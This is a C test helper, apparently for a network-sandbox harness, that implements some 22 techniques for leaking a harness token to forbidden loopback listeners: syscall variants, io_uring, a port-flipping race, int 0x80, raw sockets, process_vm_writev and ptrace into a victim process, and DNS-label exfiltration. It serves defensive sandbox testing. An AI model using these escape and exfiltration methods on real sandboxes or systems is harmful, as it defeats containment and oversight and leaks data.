/* One way out of the sandbox per technique: `escape TECHNIQUE`.
 *
 * The harness (escape_test.py) starts listeners on the host's loopback and
 * passes their ports and a fresh token through the environment. Each
 * technique tries to get the token to a forbidden listener; afterwards, when
 * ESC_ALLOWED_PORT is set, an honest connect sends "honest:<token>" to the
 * allowed listener (zero-trust must keep that working). The exit status is
 * 0 when the program ran to the end, whatever the attempt's outcome: the
 * listeners, not the program, say whether it escaped. Each attempt prints
 * one line "attempt: <result>" on stderr for the test log. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <linux/sched.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char* token;
static char self_path[4096];

static int env_int(const char* name) {
  const char* v = getenv(name);
  return v ? atoi(v) : 0;
}

static void note(const char* what, long rc) {
  fprintf(stderr, "%s: %s\n", what, rc < 0 ? strerror(errno) : "ok");
}

static struct sockaddr_in v4(const char* ip, int port) {
  struct sockaddr_in a;
  memset(&a, 0, sizeof(a));
  a.sin_family = AF_INET;
  a.sin_port = htons((uint16_t)port);
  inet_aton(ip, &a.sin_addr); /* accepts 127.1-style forms, like libc callers */
  return a;
}

static void tcp_send(const char* ip, int port, const char* text) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0) {
    note("socket", -1);
    return;
  }
  struct sockaddr_in a = v4(ip, port);
  long rc = connect(s, (struct sockaddr*)&a, sizeof(a));
  note("connect", rc);
  if (rc == 0) note("send", send(s, text, strlen(text), MSG_NOSIGNAL));
  close(s);
}

static void honest(void) {
  int port = env_int("ESC_ALLOWED_PORT");
  if (port == 0) return;
  char text[256];
  snprintf(text, sizeof(text), "honest:%s", token);
  tcp_send("127.0.0.1", port, text);
}

static void t_tcp(void) {
  tcp_send("127.0.0.1", env_int("ESC_TCP_PORT"), token);
}
static void t_tcp_127_1(void) {
  tcp_send("127.1", env_int("ESC_TCP_PORT"), token);
}

static void t_udp(void) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s < 0) {
    note("socket", -1);
    return;
  }
  struct sockaddr_in a = v4("127.0.0.1", env_int("ESC_UDP_PORT"));
  note("sendto", sendto(s, token, strlen(token), 0, (struct sockaddr*)&a, sizeof(a)));
  close(s);
}

static void t_sendmsg(void) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s < 0) {
    note("socket", -1);
    return;
  }
  struct sockaddr_in a = v4("127.0.0.1", env_int("ESC_UDP_PORT"));
  struct iovec iov = {(void*)token, strlen(token)};
  struct msghdr m;
  memset(&m, 0, sizeof(m));
  m.msg_name = &a;
  m.msg_namelen = sizeof(a);
  m.msg_iov = &iov;
  m.msg_iovlen = 1;
  note("sendmsg", sendmsg(s, &m, 0));
  close(s);
}

/* First entry to the allowed UDP port, second to the forbidden one. */
static void t_sendmmsg(void) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s < 0) {
    note("socket", -1);
    return;
  }
  struct sockaddr_in ok = v4("127.0.0.1", env_int("ESC_ALLOWED_UDP_PORT"));
  struct sockaddr_in bad = v4("127.0.0.1", env_int("ESC_UDP_PORT"));
  char honest_text[256];
  snprintf(honest_text, sizeof(honest_text), "honest:%s", token);
  struct iovec iov[2] = {{honest_text, strlen(honest_text)}, {(void*)token, strlen(token)}};
  struct mmsghdr v[2];
  memset(v, 0, sizeof(v));
  v[0].msg_hdr.msg_name = &ok;
  v[0].msg_hdr.msg_namelen = sizeof(ok);
  v[0].msg_hdr.msg_iov = &iov[0];
  v[0].msg_hdr.msg_iovlen = 1;
  v[1].msg_hdr.msg_name = &bad;
  v[1].msg_hdr.msg_namelen = sizeof(bad);
  v[1].msg_hdr.msg_iov = &iov[1];
  v[1].msg_hdr.msg_iovlen = 1;
  int n = sendmmsg(s, v, 2, 0);
  fprintf(stderr, "sendmmsg: %d (%s) len0=%u\n", n, n < 0 ? strerror(errno) : "ok", v[0].msg_len);
  close(s);
}

static void t_fastopen(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0) {
    note("socket", -1);
    return;
  }
  struct sockaddr_in a = v4("127.0.0.1", env_int("ESC_TCP_PORT"));
  note("sendto(MSG_FASTOPEN)", sendto(s, token, strlen(token), MSG_FASTOPEN | MSG_NOSIGNAL,
                                      (struct sockaddr*)&a, sizeof(a)));
  usleep(100000);
  close(s);
}

static void t_fork(void) {
  pid_t p = fork();
  if (p == 0) {
    t_tcp();
    _exit(0);
  }
  waitpid(p, NULL, 0);
}

static void* thread_main(void* arg) {
  (void)arg;
  t_tcp();
  return NULL;
}
static void t_thread(void) {
  pthread_t t;
  pthread_create(&t, NULL, thread_main, NULL);
  pthread_join(t, NULL);
}

static void t_execve(void) {
  pid_t p = fork();
  if (p == 0) {
    char* argv[] = {self_path, "tcp-only", NULL};
    execv(self_path, argv);
    _exit(127);
  }
  waitpid(p, NULL, 0);
}

static void t_vfork(void) {
  char* argv[] = {self_path, "tcp-only", NULL};
  pid_t p = vfork();
  if (p == 0) {
    execv(self_path, argv);
    _exit(127);
  }
  waitpid(p, NULL, 0);
}

static char clone_stack[256 * 1024];
static int clone_child(void* arg) {
  (void)arg;
  t_tcp();
  return 0;
}
/* clone3 with CLONE_VM; where it answers ENOSYS, the fallback clone(2) with
 * CLONE_VM is tried, as libc would. */
static void t_clone3(void) {
  struct clone_args args;
  memset(&args, 0, sizeof(args));
  args.flags = CLONE_VM | CLONE_VFORK;
  args.exit_signal = SIGCHLD;
  /* No stack of its own: like vfork, the parent waits while the child runs on its stack. */
  long pid = syscall(SYS_clone3, &args, sizeof(args));
  if (pid == 0) {
    t_tcp();
    syscall(SYS_exit, 0);
  }
  note("clone3", pid);
  if (pid > 0) {
    waitpid((pid_t)pid, NULL, 0);
    return;
  }
  pid =
      clone(clone_child, clone_stack + sizeof(clone_stack), CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
  note("clone", pid);
  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
}

/* io_uring connect + send with raw system calls. */
static void t_io_uring(void) {
  struct io_uring_params p;
  memset(&p, 0, sizeof(p));
  int ring = (int)syscall(SYS_io_uring_setup, 4, &p);
  note("io_uring_setup", ring);
  if (ring < 0) return;
  size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
  char* sq = mmap(0, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  char* cq = mmap(0, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
  struct io_uring_sqe* sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe),
                                   PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
  if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
    note("mmap", -1);
    return;
  }
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = v4("127.0.0.1", env_int("ESC_TCP_PORT"));
  for (int op = 0; op < 2; ++op) {
    unsigned* tail = (unsigned*)(sq + p.sq_off.tail);
    unsigned mask = *(unsigned*)(sq + p.sq_off.ring_mask);
    unsigned index = *tail & mask;
    struct io_uring_sqe* e = &sqes[index];
    memset(e, 0, sizeof(*e));
    e->fd = s;
    if (op == 0) {
      e->opcode = IORING_OP_CONNECT;
      e->addr = (uint64_t)(uintptr_t)&a;
      e->off = sizeof(a);
    } else {
      e->opcode = IORING_OP_SEND;
      e->addr = (uint64_t)(uintptr_t)token;
      e->len = (unsigned)strlen(token);
    }
    ((unsigned*)(sq + p.sq_off.array))[index] = index;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    long rc = syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    note(op == 0 ? "io_uring connect" : "io_uring send", rc);
    unsigned* head = (unsigned*)(cq + p.cq_off.head);
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
  }
  close(s);
}

/* One thread flips the port between the allowed and the forbidden listener
 * while the other connects, many times: a supervisor that checked the
 * title's memory and then let the title's own call go on would lose. */
static struct sockaddr_in race_addr;
static volatile int race_stop;
static volatile int race_started;
static void* flipper(void* arg) {
  (void)arg;
  race_started = 1;
  volatile uint16_t* port = &race_addr.sin_port;
  uint16_t ok = htons((uint16_t)env_int("ESC_ALLOWED_PORT"));
  uint16_t bad = htons((uint16_t)env_int("ESC_TCP_PORT"));
  while (!race_stop) {
    for (int i = 0; i < 64 && !race_stop; ++i) *port = ok;
    for (int i = 0; i < 64 && !race_stop; ++i) *port = bad;
  }
  return NULL;
}
static void t_race(void) {
  race_addr = v4("127.0.0.1", env_int("ESC_ALLOWED_PORT"));
  pthread_t t;
  pthread_create(&t, NULL, flipper, NULL);
  /* On a loaded machine the flipper may not run before the loop ends: wait
   * for it, and keep trying for at least 300 ms, so the bare run proves the
   * technique every time. */
  while (!race_started) sched_yield();
  struct timespec begin, now;
  clock_gettime(CLOCK_MONOTONIC, &begin);
  int connected = 0;
  for (int i = 0; i < 5000; ++i) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    double elapsed =
        (double)(now.tv_sec - begin.tv_sec) + (double)(now.tv_nsec - begin.tv_nsec) / 1e9;
    if (i >= 300 && elapsed > 0.3) break;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) break;
    if (connect(s, (struct sockaddr*)&race_addr, sizeof(race_addr)) == 0) {
      ++connected;
      send(s, token, strlen(token), MSG_NOSIGNAL);
    }
    close(s);
  }
  race_stop = 1;
  pthread_join(t, NULL);
  fprintf(stderr, "race: %d connected\n", connected);
}

/* The 32-bit entry point: socketcall(2) through int 0x80. */
static void t_int80(void) {
#if defined(__x86_64__)
  uint32_t* low =
      mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) {
    note("mmap", -1);
    return;
  }
  low[0] = AF_INET;
  low[1] = SOCK_STREAM;
  low[2] = 0;
  long fd;
  __asm__ volatile("int $0x80" : "=a"(fd) : "a"(102), "b"(1), "c"(low) : "memory");
  fprintf(stderr, "int80 socket: %ld\n", fd);
  if (fd < 0) return;
  struct sockaddr_in* a = (struct sockaddr_in*)(low + 16);
  *a = v4("127.0.0.1", env_int("ESC_TCP_PORT"));
  low[4] = (uint32_t)fd;
  low[5] = (uint32_t)(uintptr_t)a;
  low[6] = sizeof(*a);
  long rc;
  __asm__ volatile("int $0x80" : "=a"(rc) : "a"(102), "b"(3), "c"(low + 4) : "memory");
  fprintf(stderr, "int80 connect: %ld\n", rc);
  if (rc == 0) write((int)fd, token, strlen(token));
  close((int)fd);
#else
  fprintf(stderr, "int80: not x86-64\n");
#endif
}

/* Whether this kernel has the 32-bit entry at all, found without the
 * technique itself: a child makes the harmless getpid (i386 number 20)
 * through int 0x80. A kernel without IA-32 emulation (or one that turned it
 * off) kills it with SIGSEGV. Prints "int80-probe: available" or
 * "int80-probe: unavailable: REASON"; exit status 0 either way. */
static int probe_int80(void) {
#if defined(__x86_64__)
  pid_t child = fork();
  if (child == 0) {
    long pid;
    __asm__ volatile("int $0x80" : "=a"(pid) : "a"(20) : "memory");
    _exit(pid == (long)getpid() ? 0 : 3);
  }
  int status = 0;
  if (child < 0 || waitpid(child, &status, 0) != child) {
    printf("int80-probe: unavailable: could not run the probe (%s)\n", strerror(errno));
  } else if (WIFSIGNALED(status)) {
    printf(
        "int80-probe: unavailable: int 0x80 killed the probe with signal %d (%s): "
        "this kernel has no working 32-bit system call entry (IA-32 emulation off or "
        "unsupported)\n",
        WTERMSIG(status), strsignal(WTERMSIG(status)));
  } else if (WEXITSTATUS(status) != 0) {
    printf("int80-probe: unavailable: int 0x80 getpid did not return the pid\n");
  } else {
    printf("int80-probe: available\n");
  }
#else
  printf("int80-probe: unavailable: not x86-64\n");
#endif
  return 0;
}

/* A raw IPv4 socket carrying a hand-made UDP datagram to the UDP listener. */
static void t_raw(void) {
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
  note("socket(SOCK_RAW)", s);
  if (s >= 0) {
    char packet[512];
    size_t n = strlen(token);
    uint16_t* h = (uint16_t*)packet;
    h[0] = htons(40000);
    h[1] = htons((uint16_t)env_int("ESC_UDP_PORT"));
    h[2] = htons((uint16_t)(8 + n));
    h[3] = 0;
    memcpy(packet + 8, token, n);
    struct sockaddr_in a = v4("127.0.0.1", 0);
    note("raw sendto", sendto(s, packet, 8 + n, 0, (struct sockaddr*)&a, sizeof(a)));
    close(s);
  }
  int p = socket(AF_PACKET, SOCK_RAW, htons(0x0003));
  note("socket(AF_PACKET)", p);
  if (p >= 0) close(p);
}

/* Netlink families a title has no use for. */
static void t_netlink(void) {
  int protocols[] = {NETLINK_SOCK_DIAG, NETLINK_NETFILTER, NETLINK_KOBJECT_UEVENT};
  for (unsigned i = 0; i < sizeof(protocols) / sizeof(protocols[0]); ++i) {
    int s = socket(AF_NETLINK, SOCK_RAW, protocols[i]);
    note("socket(AF_NETLINK)", s);
    if (s >= 0) close(s);
  }
}

static void t_ipv6(void) {
  int s = socket(AF_INET6, SOCK_STREAM, 0);
  if (s < 0) {
    note("socket", -1);
    return;
  }
  struct sockaddr_in6 a;
  memset(&a, 0, sizeof(a));
  a.sin6_family = AF_INET6;
  a.sin6_port = htons((uint16_t)env_int("ESC_TCP6_PORT"));
  a.sin6_addr = in6addr_loopback;
  long rc = connect(s, (struct sockaddr*)&a, sizeof(a));
  note("connect [::1]", rc);
  if (rc == 0) send(s, token, strlen(token), MSG_NOSIGNAL);
  close(s);
}

static void t_mapped(void) {
  int s = socket(AF_INET6, SOCK_STREAM, 0);
  if (s < 0) {
    note("socket", -1);
    return;
  }
  struct sockaddr_in6 a;
  memset(&a, 0, sizeof(a));
  a.sin6_family = AF_INET6;
  a.sin6_port = htons((uint16_t)env_int("ESC_TCP_PORT"));
  inet_pton(AF_INET6, "::ffff:127.0.0.1", &a.sin6_addr);
  long rc = connect(s, (struct sockaddr*)&a, sizeof(a));
  note("connect [::ffff:127.0.0.1]", rc);
  if (rc == 0) send(s, token, strlen(token), MSG_NOSIGNAL);
  close(s);
}

static void unix_send(int abstract) {
  const char* name = getenv(abstract ? "ESC_ABSTRACT" : "ESC_UNIX_PATH");
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (s < 0 || name == NULL) {
    note("socket", -1);
    return;
  }
  struct sockaddr_un a;
  memset(&a, 0, sizeof(a));
  a.sun_family = AF_UNIX;
  socklen_t len;
  if (abstract) {
    strncpy(a.sun_path + 1, name, sizeof(a.sun_path) - 2);
    len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
  } else {
    strncpy(a.sun_path, name, sizeof(a.sun_path) - 1);
    len = sizeof(a);
  }
  long rc = connect(s, (struct sockaddr*)&a, len);
  note(abstract ? "connect abstract" : "connect unix path", rc);
  if (rc == 0) send(s, token, strlen(token), MSG_NOSIGNAL);
  close(s);
}
static void t_unix_path(void) {
  unix_send(0);
}
static void t_unix_abstract(void) {
  unix_send(1);
}

/* Writes the token into a host process's memory (the harness's victim). */
static void t_process_vm(void) {
  pid_t victim = (pid_t)env_int("ESC_VICTIM_PID");
  unsigned long address =
      strtoul(getenv("ESC_VICTIM_ADDR") ? getenv("ESC_VICTIM_ADDR") : "0", NULL, 16);
  struct iovec local = {(void*)token, strlen(token) + 1};
  struct iovec remote = {(void*)address, strlen(token) + 1};
  note("process_vm_writev", process_vm_writev(victim, &local, 1, &remote, 1, 0));
  long rc = ptrace(PTRACE_ATTACH, victim, 0, 0);
  note("ptrace(PTRACE_ATTACH)", rc);
  if (rc == 0) {
    waitpid(victim, NULL, 0);
    ptrace(PTRACE_DETACH, victim, 0, 0);
  }
}

/* A DNS query whose name carries the token, to a resolver on loopback. */
static void t_dns(void) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s < 0) {
    note("socket", -1);
    return;
  }
  unsigned char q[512];
  size_t n = 0;
  const unsigned char header[12] = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
  memcpy(q, header, sizeof(header));
  n = sizeof(header);
  const char* labels[] = {token, "exfil", "test"};
  for (int i = 0; i < 3; ++i) {
    size_t len = strlen(labels[i]);
    q[n++] = (unsigned char)len;
    memcpy(q + n, labels[i], len);
    n += len;
  }
  q[n++] = 0;
  q[n++] = 0;
  q[n++] = 1; /* A */
  q[n++] = 0;
  q[n++] = 1; /* IN */
  struct sockaddr_in a = v4("127.0.0.1", env_int("ESC_DNS_PORT"));
  note("dns sendto", sendto(s, q, n, 0, (struct sockaddr*)&a, sizeof(a)));
  close(s);
}

/* The victim for process_vm: prints its pid and its buffer's address and
 * waits; the harness reads the buffer through /proc/PID/mem. */
static volatile char victim_buffer[256];
static int victim(const char* out) {
  printf("%d %lx\n", getpid(), (unsigned long)(uintptr_t)&victim_buffer[0]);
  fflush(stdout);
  (void)out;
  for (int i = 0; i < 1200; ++i) usleep(50000); /* the harness reads the buffer, then kills it */
  return 0;
}

struct technique {
  const char* name;
  void (*run)(void);
};
static const struct technique techniques[] = {
    {"tcp", t_tcp},
    {"udp", t_udp},
    {"sendmsg", t_sendmsg},
    {"sendmmsg", t_sendmmsg},
    {"fastopen", t_fastopen},
    {"fork", t_fork},
    {"thread", t_thread},
    {"execve", t_execve},
    {"vfork", t_vfork},
    {"clone3", t_clone3},
    {"io_uring", t_io_uring},
    {"race", t_race},
    {"int80", t_int80},
    {"raw", t_raw},
    {"netlink", t_netlink},
    {"ipv6", t_ipv6},
    {"mapped", t_mapped},
    {"127.1", t_tcp_127_1},
    {"unix-path", t_unix_path},
    {"unix-abstract", t_unix_abstract},
    {"process-vm", t_process_vm},
    {"dns", t_dns},
};

int main(int argc, char** argv) {
  if (argc >= 3 && strcmp(argv[1], "victim") == 0) return victim(argv[2]);
  if (argc >= 2 && strcmp(argv[1], "probe-int80") == 0) return probe_int80();
  token = getenv("ESC_NONCE");
  if (argc < 2 || token == NULL) {
    fprintf(stderr, "usage: ESC_NONCE=... escape TECHNIQUE\n");
    return 2;
  }
  ssize_t n = readlink("/proc/self/exe", self_path, sizeof(self_path) - 1);
  if (n > 0) self_path[n] = 0;
  if (strcmp(argv[1], "tcp-only") == 0) {
    t_tcp();
    return 0;
  }
  for (unsigned i = 0; i < sizeof(techniques) / sizeof(techniques[0]); ++i) {
    if (strcmp(argv[1], techniques[i].name) == 0) {
      techniques[i].run();
      honest();
      return 0;
    }
  }
  fprintf(stderr, "unknown technique %s\n", argv[1]);
  return 2;
}
